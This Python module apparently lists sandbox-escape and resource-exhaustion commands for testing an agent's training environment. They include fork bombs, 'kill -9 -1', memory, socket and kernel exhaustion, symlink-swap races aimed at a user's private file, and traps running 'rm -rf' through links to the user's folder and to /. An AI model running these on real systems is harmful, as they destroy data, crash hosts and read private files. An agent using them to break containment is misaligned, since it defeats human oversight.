# ruff: noqa: E501
# fmt: off
"""Ways of an agent to take more than its limits, to reach files of the host, and to make the environment fail. Each is a command.

They want python3 in /usr. `{victim}` stands for a private file of the user who trains, `{folder}` for a folder of theirs.
"""

from __future__ import annotations

from collections.abc import Mapping

START = """
import ctypes, fcntl, mmap, os, platform, signal, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
arm = platform.machine() == "aarch64"
MB = 1 << 20
def call(x86, other, *values):
    done = libc.syscall(ctypes.c_long(other if arm else x86), *(ctypes.c_long(v) if isinstance(v, int) else v for v in values))
    if done < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return done
def each(function, count=1000000):
    for number in range(count):
        try:
            function(number)
        except (OSError, MemoryError, ValueError, RuntimeError):
            return number
def forked(count, function):
    for _ in range(count):
        try:
            if os.fork() == 0:
                try:
                    function()
                except BaseException:
                    pass
                time.sleep(30)
                os._exit(0)
        except OSError:
            break
def shared(size):
    at = libc.mmap(None, size, 3, 0x21, -1, 0)
    if at in (None, 2**64 - 1):
        raise MemoryError
    ctypes.memset(at, 1, size)
    return at
def exchange(a, b):
    libc.syscall(ctypes.c_long(276 if arm else 316), -100, a, -100, b, 2)
hold = []
wait = lambda: time.sleep(0.4)
"""

MEMORY = {  # name: program
    "one process": "each(lambda n: hold.append(bytearray(8 * MB))); wait()",
    "eight processes": "forked(8, lambda: each(lambda n: hold.append(bytearray(4 * MB)))); wait()",
    "sixty processes": "forked(60, lambda: hold.append(bytearray(64 * MB))); wait()",
    "copies of a fork": "data = bytearray(150 * MB)\ndef touch():\n for i in range(0, len(data), 4096): data[i] = 1\nforked(12, touch); wait()",
    "large pages": """def large():
 at = libc.mmap(None, 128 * MB, 3, 0x22, -1, 0)
 libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(128 * MB), 14)
 ctypes.memset(at, 1, 128 * MB)
forked(10, large); wait()""",
    "memfd written": """def fill():
 fd = os.memfd_create("x")
 each(lambda n: os.write(fd, bytes(MB)), 400)
forked(6, fill); wait()""",
    "memfd mapped": """def fill():
 fd = os.memfd_create("x"); os.ftruncate(fd, 200 * MB); m = mmap.mmap(fd, 200 * MB); m[:] = bytes(200 * MB); m.close()
forked(6, fill); wait()""",
    "secret memory": "fd = call(447, 447, 0); os.ftruncate(fd, 200 * MB); m = mmap.mmap(fd, 200 * MB); m[:] = bytes(200 * MB); wait()",
    "System V segments": """libc.shmat.restype = ctypes.c_void_p
def segment(n):
 i = libc.shmget(0, ctypes.c_size_t(64 * MB), 0o1666)
 if i < 0: raise OSError
 at = libc.shmat(i, None, 0); ctypes.memset(at, 1, 64 * MB); libc.shmdt(ctypes.c_void_p(at))
each(segment, 40); wait()""",
    "shared memory of a parent that ended": "forked(8, lambda: (shared(150 * MB), os.fork() and os._exit(0))); wait()",
    "shared memory without pages": """def some(n):
 at = shared(100 * MB); libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(100 * MB), 4)
each(some, 20); wait()""",
    "shared memory mostly unmapped": """def some(n):
 at = shared(64 * MB); libc.munmap(at + 4096, 64 * MB - 4096)
each(some, 40); wait()""",
    "a device of zeros mapped": """def some(n):
 fd = os.open("/dev/zero", os.O_RDWR); at = libc.mmap(None, 64 * MB, 3, 1, fd, 0)
 if at in (None, 2**64 - 1): raise MemoryError
 ctypes.memset(at, 1, 64 * MB); libc.munmap(at + 4096, 64 * MB - 4096); os.close(fd)
each(some, 40); wait()""",
    "pipes": """def pipes():
 def one(n):
  r, w = os.pipe(); os.set_blocking(w, False); os.write(w, bytes(65536))
 each(one)
forked(60, pipes); wait()""",
    "large pipes": """def pipes():
 def one(n):
  r, w = os.pipe(); fcntl.fcntl(w, 1031, MB); os.set_blocking(w, False); os.write(w, bytes(MB))
 each(one)
forked(60, pipes); wait()""",
    "pages given to pipes": """def pipes():
 def one(n):
  r, w = os.pipe()
  at = libc.mmap(None, 4 * MB, 3, 0x22, -1, 0); libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(4 * MB), 14)
  ctypes.memset(at, 1, 4 * MB); vector = struct.pack("QQ", at + 2 * MB, 4096)
  try: call(278, 75, w, vector, 1, 0)
  finally: libc.munmap(at, 4 * MB)
 each(one)
forked(20, pipes); wait()""",
    "local sockets": """def sockets():
 def one(n):
  for s in socket.socketpair():
   hold.append(s); s.setblocking(False); s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, MB)
   each(lambda n: s.send(bytes(65536)))
 each(one)
forked(60, sockets); wait()""",
    "datagrams": """def sockets():
 def one(n):
  for s in socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM):
   hold.append(s); s.setblocking(False); s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, MB)
   each(lambda n: s.send(b"x"), 1000)
 each(one)
forked(30, sockets); wait()""",
    "connections": """def sockets():
 server = socket.create_server(("127.0.0.1", 0), backlog=500)
 def one(n):
  s = socket.create_connection(server.getsockname()); t = server.accept()[0]; hold.extend((s, t))
  for e in (s, t):
   e.setblocking(False)
   each(lambda n: e.send(bytes(MB)))
 each(one)
forked(30, sockets); wait()""",
    "packets": """def sockets():
 def one(n):
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 0)); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, MB)
  hold.append(s); each(lambda n: s.sendto(bytes(60000), s.getsockname()), 20)
 each(one)
forked(30, sockets); wait()""",
    "sockets of other families": "for f in (17, 38, 40, 31, 44): each(lambda n: hold.append(socket.socket(f, socket.SOCK_RAW)), 100)",
    "handles in flight": """a, b = socket.socketpair(); a.setblocking(False)
def one(n):
 p, q = socket.socketpair(); p.setblocking(False); each(lambda n: p.send(bytes(65536)))
 socket.send_fds(a, [b"x"], [p.fileno(), q.fileno()]); p.close(); q.close()
each(one); forked(20, lambda: each(one)); wait()""",
    "tables of pages": """def tables():
 at = libc.mmap(None, 400 * MB, 1, 0x22, -1, 0)
 for n in range(0, 400 * MB, 4096): ctypes.c_char.from_address(at + n).value
forked(60, tables); wait()""",
    "mappings": """def maps():
 at = libc.mmap(None, 400 * MB, 3, 0x22, -1, 0)
 for n in range(0, 400 * MB, 8192): libc.mprotect(ctypes.c_void_p(at + n), ctypes.c_size_t(4096), 1)
forked(60, maps); wait()""",
    "locks of a file": """def locks():
 fd = os.open("/tmp/l%d" % os.getpid(), os.O_CREAT | os.O_RDWR)
 for n in range(3000000, 0, -2): fcntl.lockf(fd, fcntl.LOCK_EX, 1, n)
forked(20, locks); wait()""",
    "watched handles": """import select
def watch():
 files = [os.eventfd(0) for _ in range(120)]
 for _ in range(120):
  e = select.epoll(); hold.append(e)
  for f in files: e.register(f)
forked(60, watch); wait()""",
    "watched files": """for n in range(4000): open("/work/f%d" % n, "w").close()
def watch(n):
 i = libc.inotify_init1(0)
 if i < 0: raise OSError
 for n in range(4000): libc.inotify_add_watch(i, b"/work/f%d" % n, 0xfff)
each(watch, 128); wait()""",
    "timers and signals": """def some():
 each(lambda n: call(222, 107, 0, None, ctypes.byref(ctypes.c_int())))
 signal.pthread_sigmask(signal.SIG_BLOCK, [40]); each(lambda n: call(129, 138, os.getpid(), 40, bytes(128)))
forked(30, some); wait()""",
    "messages": """each(lambda n: call(68, 186, 0, 0o1666), 100)
def queue(n):
 q = call(240, 180, b"q%d" % n, 0o102, 0o600, None)
each(queue, 100); wait()""",
    "semaphores": "each(lambda n: call(64, 190, 0, 30000, 0o1666), 1000); wait()",
    "keys": """each(lambda n: call(248, 217, b"user", b"k%d" % n, bytes(20000), 20000, -3))""",
    "rings": "each(lambda n: call(425, 425, 4096, bytes(120)), 100); each(lambda n: call(206, 0, 4096, bytes(8)), 100)",
    "parts of the kernel": "for nrs in ((321, 280), (298, 241), (323, 282), (300, 262)): each(lambda n: call(*nrs, 0, bytes(128), 64, 0, 0), 3)",
    "locked pages": """def some():
 at = libc.mmap(None, 100 * MB, 3, 0x22, -1, 0); libc.mlock(ctypes.c_void_p(at), ctypes.c_size_t(100 * MB)); ctypes.memset(at, 1, 100 * MB)
forked(12, some); wait()""",
    "stacks of threads": """threading.stack_size(16 * MB)
def deep():
 b = (ctypes.c_char * (15 * MB))(); ctypes.memset(b, 1, 15 * MB); wait()
each(lambda n: threading.Thread(target=deep, daemon=True).start()); wait()""",
    "arguments": "forked(60, lambda: os.execv('/usr/bin/sleep', ['sleep', '30'] + ['0' * 100000] * 18)); wait()",
    "memory taken after the command": "if os.fork() == 0: time.sleep(0.1); forked(8, lambda: each(lambda n: hold.append(bytearray(4 * MB)))); wait()",
    "raised limits": """import resource
for name in ("AS", "NPROC", "NOFILE", "FSIZE", "MEMLOCK"):
 try: resource.setrlimit(getattr(resource, "RLIMIT_" + name), (-1, -1))
 except (OSError, ValueError): pass
forked(10, lambda: each(lambda n: hold.append(bytearray(8 * MB)))); wait()""",
    "a namespace with files": "libc.unshare(0x10020000); libc.mount(b't', b'/tmp', b'tmpfs', 0, b'size=2g'); each(lambda n: open('/tmp/x%d' % n, 'wb').write(bytes(8 * MB)))",
}
FILES = {  # name: command of bash
    "empty files": "cat > /tmp/p.py <<'E'\nimport os\nfor d in ('/work', '/tmp', '/dev/shm'):\n try:\n  for n in range(300000): os.close(os.open(f'{d}/{n}', 64))\n except OSError: pass\nE\npython3 /tmp/p.py",
    "folders": "python3 -c \"\nimport os\nfor n in range(300000): os.mkdir('/work/%d' % n)\"",
    "deep folders": "python3 -c \"\nimport os\nfor n in range(300000): os.mkdir('d'); os.chdir('d')\"",
    "links": "python3 -c \"\nimport os\nfor n in range(300000): os.symlink('x' * 4000, '/work/%d' % n)\"",
    "hard links": "echo > a; python3 -c \"\nimport os\nfor n in range(300000): os.link('a', 'n' * 200 + '%d' % n)\"",
    "pipes with names": "python3 -c \"\nimport os\nfor n in range(300000): os.mkfifo('/tmp/%d' % n)\"",
    "long names": "python3 -c \"\nimport os\nfor n in range(300000): open('n' * 240 + '%d' % n, 'w').close()\"",
    "attributes": "touch a; python3 -c \"\nimport os\nfor n in range(300000): os.setxattr('a', 'user.%d' % n, bytes(30000))\"",
    "a full disk": "head -c 100M /dev/zero > a; head -c 100M /dev/zero > /tmp/a; head -c 100M /dev/zero > /dev/shm/a; for i in $(seq 60); do head -c 1M /dev/zero > b$i; done",
    "sparse files": "for i in $(seq 40); do truncate -s 16M s$i; done; ls -l | head -3",
    "sparse files that just fit": "truncate -s 16M s; head -c 600K /dev/zero > t; exit",
    "copies of a hard link": "head -c 8500K /dev/zero > a; ln a b; exit",
    "removed files held open": "python3 -c \"\nimport os, time\nfor n in range(200):\n f = open('/tmp/x', 'wb'); globals()['f%d' % n] = f; os.unlink('/tmp/x')\n try: f.write(bytes(1 << 20)); f.flush()\n except OSError: pass\ntime.sleep(30)\"",
    "allocated files": "fallocate -l 1G a; fallocate -l 16M b; fallocate -l 16M c; fallocate -l 16M /tmp/d",
    "terminals": "python3 -c \"\nimport os, time\nfor _ in range(40):\n if os.fork() == 0:\n  try:\n   while True: m, s = os.openpty(); os.set_blocking(m, False); os.write(m, b'x' * 4000)\n  except OSError: time.sleep(30)\ntime.sleep(30)\"",
    "handles": "python3 -c \"\nimport os, time\nfor _ in range(60):\n if os.fork() == 0:\n  try:\n   while True: os.open('/dev/null', 0)\n  except OSError: time.sleep(30)\ntime.sleep(30)\"",
}
PROCESSES = {
    "a bomb": ":(){ :|:& };: ; sleep 30",
    "a bomb in the background": ":(){ :|:& };: & sleep 0.2",
    "threads": "python3 -c \"\nimport threading, time\nthreading.stack_size(65536)\nwhile True: threading.Thread(target=time.sleep, args=(30,)).start()\"",
    "zombies": "python3 -c \"\nimport os, time\ntry:\n while True:\n  if os.fork() == 0: os._exit(0)\nexcept OSError: time.sleep(30)\"",
    "sessions of their own": "for i in $(seq 100); do setsid -f sleep 30; done; sleep 0.1",
    "processes that start each other": "cat > /tmp/p.sh <<'E'\n(bash /tmp/p.sh &) ; exit\nE\nfor i in 1 2 3 4 5 6; do bash /tmp/p.sh & done; sleep 0.3",
    "processes that wake each other": "cat > /tmp/w.py <<'E'\nimport os, signal\nif os.fork() and os.fork() and os.fork(): os._exit(0)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n try: os.kill(-1, signal.SIGCONT)\n except OSError: pass\nE\npython3 /tmp/w.py & sleep 0.2",
    "a stopped shell": "kill -STOP $$",
    "a shell that reads nothing": "exec python3 -c \"\nimport sys, time\ntime.sleep(30)\"",
    "another shell in its place": "cat > /tmp/s.py <<'E'\nimport os, re, sys, time\nwhile True:\n line = os.read(0, 65536).decode()\n for mark in re.findall('[0-9a-f]{32}', line): print(f'\\n{mark} 0 ' + '/x\\x1b[2J' * 2000, flush=True)\nE\nexec python3 /tmp/s.py",
    "output without end": "yes",
    "output in the background": "yes & yes & sleep 0.1",
    "time": "trap '' TERM INT HUP; while :; do :; done",
    "a killed shell": "kill -9 -1",
    "a parent that waits for a stopped child": "python3 -c \"\nimport ctypes, os\nctypes.CDLL(None).vfork\nimport subprocess\nwhile True: subprocess.run(['/usr/bin/true'], close_fds=False)\" & sleep 0.2",
}
RACES = {  # programs that run in the background while the files are read
    "a file for a link": "open('a', 'w').close(); os.chmod('a', 0o044); os.symlink('{victim}', 'b')\nwhile True: exchange(b'a', b'b')",
    "a folder for a link": "os.mkdir('a'); os.chmod('a', 0o044); os.symlink('{folder}', 'b')\nwhile True: exchange(b'a', b'b')",
    "a readable folder for a link": "os.mkdir('a'); open('a/private', 'w').close(); os.chmod('a/private', 0); os.symlink('{folder}', 'b')\nwhile True: exchange(b'a', b'b')",
    "a file for a pipe": "open('a', 'w').close(); os.chmod('a', 0o044); os.mkfifo('b', 0)\nwhile True: exchange(b'a', b'b')",
    "a file for a folder": "open('a', 'w').close(); os.chmod('a', 0o044); os.mkdir('b', 0)\nwhile True: exchange(b'a', b'b')",
    "files that come and go": "while True:\n open('a', 'w').close(); os.chmod('a', 0); os.unlink('a'); os.mkdir('a', 0); os.rmdir('a'); os.symlink('{victim}', 'a'); os.unlink('a')",
    "permissions that come and go": "os.makedirs('d/e/f', exist_ok=True)\nwhile True:\n for m in (0, 0o300, 0o500, 0o700):\n  for d in ('d/e', 'd', '.'):\n   try: os.chmod(d, m)\n   except OSError: pass",
    "a folder moved away": "os.makedirs('d/e/f', exist_ok=True); os.makedirs('g', exist_ok=True)\nwhile True:\n os.rename('d/e', 'g/e'); os.rename('g/e', 'd/e')",
    "a file cut while it is read": "while True:\n open('a', 'wb').write(bytes(MB)); os.truncate('a', 0)",
}
TRAPS = {  # what is left in the files
    "a working folder without permissions": "mkdir -p d/e; echo x > d/e/f; chmod 000 d/e d; chmod 000 /work",
    "folders without permissions": "mkdir -p a/b c; echo > a/b/f; chmod 400 a/b; chmod 100 a; chmod 000 c; exit",
    "two thousand folders": "mkdir $(seq 2000); exit",
    "strange names": "touch $'a\\nb' $'\\xff\\xfe' -- -rf ' ' $'\\e[2J'; mkdir $'\\xff'; cd $'\\xff'; exit",
    "links out": "ln -s {victim} a; ln -s {folder} b; ln -s / c; cat a; echo x > a; rm -rf b/* c/*; exit",
    "a folder that is gone": "mkdir x; cd x; rmdir ../x; exit",
}
# fmt: on


def ways(victim: str, folder: str) -> Mapping[str, str]:
    """All ways, by their names: commands."""
    found = {f"memory: {name}": _python(text) for name, text in MEMORY.items()}
    found["memory: memory taken after the command"] += "\nsleep 0.01"
    found |= {f"files: {name}": text for name, text in FILES.items()}
    found |= {f"processes: {name}": text for name, text in PROCESSES.items()}
    found |= {f"race: {name}": _python(text) + " & sleep 0.1" for name, text in RACES.items()}
    found |= {f"trap: {name}": text for name, text in TRAPS.items()}
    return {name: text.replace("{victim}", victim).replace("{folder}", folder) for name, text in found.items()}


def _python(text: str) -> str:
    """A command that runs this program."""
    program = (START + text).replace("'", "'\\''")
    return f"python3 -c '{program}'"
